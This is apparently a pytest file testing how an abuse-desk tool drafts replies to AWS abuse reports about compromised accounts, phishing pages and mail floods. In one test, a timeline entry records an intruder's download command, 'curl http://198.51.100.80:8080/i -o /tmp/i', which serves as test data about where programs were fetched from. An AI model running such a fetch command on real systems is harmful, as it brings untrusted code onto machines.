"""What a reader at AWS would stumble over: each of these was once in a letter."""

from __future__ import annotations

import re
from dataclasses import replace
from datetime import timedelta

import pytest

from abusedesk.model import Affected, Attackers, Finding, Recheck, RootCause, Severity, Step, Text
from abusedesk.model import TimelineEntry as Line
from abusedesk.reply import KEY_IS_GONE, draft
from reply import invented_case as case

OTHERS = tuple(f"arn:aws:iam::{case.ACCOUNT}:user/person{number}" for number in range(8))
WRITER = f"arn:aws:sts::{case.ACCOUNT}:assumed-role/billing-web/i-0123456789abcdef0"
PAGE = "https://example-public.s3.us-east-1.amazonaws.com/u/1/login.html"


def flat(text):
    return " ".join(re.sub(r"(?m)^- ", "", text).split())


def told(dossier=case.DOSSIER, trace=case.TRACE, steps=case.STEPS, **options):
    return draft(dossier, trace, steps, case.MAIL, **options)


def step(action, target, phase="recover", number=9):
    return Step(step=number, phase=phase, action=action, target=target, region="aws-global")


def test_people_who_have_no_part_in_the_case_are_counted_and_never_named():
    steps = (*case.STEPS, *(step("reset_password", one) for one in OTHERS))
    done = [
        replace(case.RECEIPT, step=n, action="reset_password", target=one)
        for n, one in enumerate(OTHERS[:5], 20)
    ]
    text = flat(told(steps=steps, receipts=done).text)
    assert "person" not in text
    assert "We set new console passwords for 5 of our IAM users." in text
    assert "Set new console passwords for 3 of our IAM users." in text


def test_a_person_whom_the_intruder_was_is_named():
    [said] = [
        one for one in told(steps=(step("reset_password", case.USER),)).claims if "password" in one.text
    ]
    assert case.USER in said.text


def test_one_kind_of_step_upon_many_things_is_one_sentence_with_all_its_receipts():
    receipts = [
        replace(
            case.RECEIPT,
            step=20 + n,
            action="terminate_instance",
            target=one.id,
            applied=case.NOW + timedelta(minutes=n),
        )
        for n, one in enumerate(case.TRACE.affected)
    ]
    [said] = [one for one in told(receipts=receipts).claims if "terminated instances" in one.text]
    assert len(said.evidence) == 24
    assert said.text.startswith("2026-03-05 02:10:00 to 02:33:00 UTC: We terminated instances i-0")
    assert "and 22 more of the affected resources" in said.text


def test_what_is_done_at_once_is_not_promised_again_for_later():
    steps = [
        step("enable_guardduty", f"arn:aws:guardduty:us-east-1:{case.ACCOUNT}:detector/1", "contain", 1),
        step("enable_guardduty", f"arn:aws:guardduty:us-east-1:{case.ACCOUNT}:detector", "prevent", 2),
        step("enable_guardduty", f"arn:aws:guardduty:eu-west-1:{case.ACCOUNT}:detector", "prevent", 3),
    ]
    text = flat(told(steps=steps).text)
    assert text.count("GuardDuty in us-east-1") == 1
    assert text.count("GuardDuty in eu-west-1") == 1


def test_a_letter_with_nothing_done_does_not_open_with_what_was_done():
    assert "what was done about it" not in flat(told().text)
    assert "what was done about it" in flat(told(receipts=[case.RECEIPT]).text)


def test_an_address_from_which_only_a_program_was_fetched_is_no_address_that_he_came_from():
    lines = (
        *case.TRACE.timeline,
        Line(
            time=case.BEGAN + timedelta(minutes=3),
            what=Text("web fetches something: curl http://198.51.100.80:8080/i -o /tmp/i", ""),
            evidence=("event-7",),
        ),
        Line(
            time=case.BEGAN + timedelta(minutes=4),
            what=Text("The intruder logs in again, as web from 198.51.100.90.", ""),
            evidence=("event-8",),
        ),
    )
    attackers = Attackers((case.USER,), (case.KEY,), ("203.0.113.77", "198.51.100.80", "198.51.100.90"))
    text = flat(told(trace=replace(case.TRACE, timeline=lines, attackers=attackers)).text)
    assert "The activity came from 203.0.113.77, 198.51.100.90." in text
    assert "The intruder loaded programs from 198.51.100.80." in text


def test_what_was_over_before_the_break_in_is_no_record_of_it():
    probe = Finding(
        id="probe",
        rule="guardduty_finding",
        title="An unprotected port is being probed",
        severity=Severity.LOW,
        credentials=(case.KEY,),
        first=case.BEGAN - timedelta(days=4),
        last=case.BEGAN - timedelta(days=3),
        count=1,
        events=("event-9",),
        guardduty_type="Recon:EC2/PortProbeUnprotectedPort",
    )
    assert "PortProbe" not in told(replace(case.DOSSIER, findings=(probe,))).text
    later = replace(probe, last=case.BEGAN)
    text = flat(told(replace(case.DOSSIER, findings=(later,))).text)
    assert "Amazon GuardDuty reports Recon:EC2/PortProbeUnprotectedPort" in text


def test_two_findings_on_the_same_events_are_told_once_and_the_worst_first():
    [found] = case.DOSSIER.findings
    events = tuple(f"event-{number}" for number in range(20))
    findings = [
        replace(found, id="a", title="Weak", severity=Severity.LOW, events=("event-90",)),
        replace(found, id="b", title="Scan", events=events),
        replace(found, id="c", title="Slow scan", events=(*events[:19], "event-50")),
        *(replace(found, id=f"d{n}", title=f"Other {n}", events=(f"event-7{n}",)) for n in range(4)),
    ]
    text = told(replace(case.DOSSIER, findings=tuple(findings))).text
    assert '"Scan"' in text
    assert '"Slow scan"' not in text
    assert '"Weak"' not in text
    assert '"Other 3"' in text


def test_instances_that_the_intruder_left_running_are_told_of():
    rows = tuple(
        case.evidence("ec2.instance", one.id, "ec2_instances", {"State": {"Name": state}}, "eu-west-1")
        for one, state in zip(case.TRACE.affected, ("running", "running", "terminated"), strict=False)
    )
    dossier = replace(case.DOSSIER, evidence=(*case.DOSSIER.evidence, *rows))
    assert "2 of the instances that the intruder launched were still running" in flat(told(dossier).text)


@pytest.mark.parametrize(
    ("failed", "said"),
    [
        ((), "; we have since terminated them."),
        ((1,), "; we have since terminated 1 of them."),
        ((0, 1), "."),
    ],
)
def test_instances_that_we_ended_since_are_not_left_standing_as_running(failed, said):
    ran = case.TRACE.affected[:2]
    rows = tuple(
        case.evidence("ec2.instance", one.id, "ec2_instances", {"State": {"Name": "running"}}, "eu-west-1")
        for one in ran
    )
    done = [
        replace(
            case.RECEIPT,
            step=n,
            action="terminate_instance",
            target=one.id,
            failed="denied" if n in failed else "",
        )
        for n, one in enumerate(ran)
    ]
    dossier = replace(case.DOSSIER, evidence=(*case.DOSSIER.evidence, *rows))
    text = flat(told(dossier, receipts=done).text)
    [tail] = re.findall(
        r"were still running when we read the account at [^;.]*([;.](?: we have since[^.]*\.)?)", text
    )
    assert tail == said


def hosted(**policy):
    data = {"Name": "example-public", "Policy": {"Statement": [policy]} if policy else None}
    bucket = case.evidence("s3.bucket", "example-public", "s3_buckets", data)
    notice = replace(
        case.NOTICE, kind="phishing_content", access_keys=(), iam_users=(), urls=(PAGE,), resources=()
    )
    dossier = replace(case.DOSSIER, notice=notice, evidence=(*case.HISTORY, bucket), findings=())
    line = Line(
        time=case.BEGAN, what=Text("login.html is put there", ""), actor=WRITER, evidence=("event-1",)
    )
    cause = RootCause(kind="hosted_content", confidence=0.85, for_=("event-1",))
    return dossier, replace(
        case.TRACE, root_causes=(cause,), timeline=(line,), attackers=Attackers(), affected=()
    )


def test_the_identity_that_wrote_the_reported_content_is_named():
    made = told(*hosted(), steps=())
    [said] = [one for one in made.claims if "with the rights of" in one.text]
    assert WRITER in said.text
    assert (said.status, said.evidence) == ("confirmed", ("event-1",))
    assert not any("how it could happen" in one for one in made.problems)
    assert any("Which person or customer uploaded" in one.en for one in made.questions)


@pytest.mark.parametrize(
    ("principal", "said"), [("*", True), ({"AWS": "*"}, True), ({"AWS": case.USER}, False)]
)
def test_whether_everybody_could_read_the_bucket_is_said_by_its_policy(principal, said):
    allows = {"Effect": "Allow", "Principal": principal, "Action": "s3:GetObject", "Resource": "*"}
    assert ("let anybody on the internet read it" in flat(told(*hosted(**allows), steps=()).text)) is said


def test_the_intruders_writes_to_the_reported_bucket_are_among_the_records():
    dossier, trace = hosted()
    bucket = Affected(
        id="arn:aws:s3:::example-public",
        type="AWS::S3::Bucket",
        region="us-east-1",
        how="used",
        by=case.USER,
        time=case.BEGAN,
        events=("event-1",),
    )
    put = Line(
        time=case.BEGAN,
        what=Text(f"{case.USER}: s3:PutObject in us-east-1: example-public.", ""),
        actor=case.USER,
        evidence=("event-1",),
    )
    leaked = replace(case.TRACE, timeline=(put,), affected=(bucket,))
    text = flat(told(dossier, leaked, steps=()).text).split("What our own records show:")[1]
    assert "s3:PutObject in us-east-1: example-public" in text
    del trace


def mail_case(kind):
    points = [
        {"Timestamp": (case.BEGAN + timedelta(hours=hour)).isoformat(), "DeliveryAttempts": sent}
        for hour, sent in enumerate([900, 1000, 950, 2])
    ]
    row = case.evidence(
        "ses.statistics", "us-east-1", "ses_statistics", {"SendDataPoints": points}, "us-east-1"
    )
    flood = Line(
        time=case.BEGAN,
        what=Text("Far more mail than usual begins to go out of us-east-1: 2852 messages.", ""),
        region="us-east-1",
        evidence=(row.id,),
    )
    trace = case.with_cause(
        replace(case.TRACE, timeline=(*case.TRACE.timeline, flood), affected=()),
        kind="mail_credentials_leaked",
        for_=("event-1", row.id),
    )
    notice = replace(case.NOTICE, kind=kind)
    dossier = replace(case.DOSSIER, notice=notice, evidence=(*case.DOSSIER.evidence, row), findings=())
    return replace(dossier, coverage=(*dossier.coverage, *case.COVERAGE[:1])), trace


@pytest.mark.parametrize("kind", ["ses_credentials", "ses_complaint", "ses_review"])
def test_a_review_of_sending_hears_how_much_mail_went_out_and_until_when(kind):
    made = told(*mail_case(kind))
    text = flat(made.text)
    assert "2852 messages" in text
    assert "up to at least the hour of 2026-03-03 23:00:00 UTC" in text
    assert not any("a day that has passed" in one for one in made.problems)
    assert "runs from 2026-03-03 21:14:09 UTC to at least 2026-03-03 23:00:00 UTC" in text


def recheck(question, target, holds, why="Inactive.", hours=1, **more):
    return Recheck(
        question=question,
        target=target,
        region="aws-global",
        holds=holds,
        why=Text(why, ""),
        at=case.NOW + timedelta(hours=hours),
        evidence=("recheck-1",) if holds is not None else (),
        **more,
    )


def test_what_was_read_again_is_said_with_its_time_and_evidence_and_the_newest_counts():
    rows = [
        recheck("instance_cut_off", "i-0aaa", holds=False),
        recheck("instance_cut_off", "i-0aaa", holds=True, hours=2),
        recheck("port_closed", "sg-0aaa", holds=False),
        recheck("content_gone", PAGE, holds=None),
    ]
    made = told(rechecks=rows)
    claims = {one.text: one for one in made.claims}
    good = (
        "We checked again at 2026-03-05 04:10:00 UTC and found stopped or cut off from the network: i-0aaa."
    )
    assert (claims[good].status, claims[good].evidence) == ("confirmed", ("recheck-1",))
    bad = "We checked again at 2026-03-05 03:10:00 UTC; not yet closed to the internet: sg-0aaa."
    assert claims[bad].status == "not_confirmed"
    assert any(one.startswith("We could not read again whether this is no longer") for one in claims)
    assert "checked again" not in told().text


@pytest.mark.parametrize(("why", "said"), [("Inactive.", "is inactive"), (KEY_IS_GONE, "no longer exists")])
def test_a_key_that_was_read_again_is_told_as_it_is_now(why, said):
    text = flat(told(rechecks=[recheck("key_off", case.KEY, holds=True, why=why)]).text)
    assert f"access key {case.KEY} {said}" in text
    assert "is still active" not in text


def test_an_address_that_nobody_holds_now_strengthens_a_dispute_and_no_other_letter():
    row = recheck("address_not_held", case.ADDRESS, holds=True)
    disputed = draft(case.NOT_OURS_DOSSIER, case.NOT_OURS_TRACE, (), case.MAIL, rechecks=[row])
    assert f"found not held by this account: {case.ADDRESS}" in flat(disputed.text)
    assert "not held by this account" not in told(rechecks=[row]).text


def test_a_machine_that_is_older_than_the_report_is_no_reason_for_a_dispute():
    old = replace(case.INSTANCE, data={**case.INSTANCE.data, "LaunchTime": "2025-08-14T09:34:30+00:00"})
    dossier = replace(case.NOT_OURS_DOSSIER, evidence=(*case.HISTORY, old))
    assert "was launched on" not in draft(dossier, case.NOT_OURS_TRACE, (), case.MAIL).text
    assert "was launched on" in draft(case.NOT_OURS_DOSSIER, case.NOT_OURS_TRACE, (), case.MAIL).text


def test_the_story_of_a_break_in_is_no_proof_that_the_address_was_another_accounts():
    made = told(kind="dispute", reason="re_used_address")
    assert "First use of the key" not in made.text.partition("What our own records show:")[0]


def test_a_holding_letter_is_short_and_says_what_could_not_be_read():
    made = told(kind="holding")
    assert len(made.text.split()) < 300
    assert "Against a repeat" not in made.text
    assert "could not read" not in made.text
    denied = told(case.deny_all(case.DOSSIER), kind="holding")
    assert "We could not read CloudTrail events" in flat(denied.text)


def test_a_case_of_many_resources_stays_under_six_hundred_words_but_for_their_list():
    many = tuple(
        replace(one, id=f"i-0{n:016x}", region=f"{one.region}-{n % 6}")
        for n, one in enumerate(case.TRACE.affected * 2)
    )
    steps = [
        step(action, one.id, "eradicate", n)
        for action in ("isolate_instance", "terminate_instance")
        for n, one in enumerate(many)
    ]
    made = told(trace=replace(case.TRACE, affected=many), steps=(*case.STEPS, *steps))
    assert len(made.text.split("AFFECTED RESOURCES")[0].split()) < 600
    assert all(one.id in made.text for one in many)
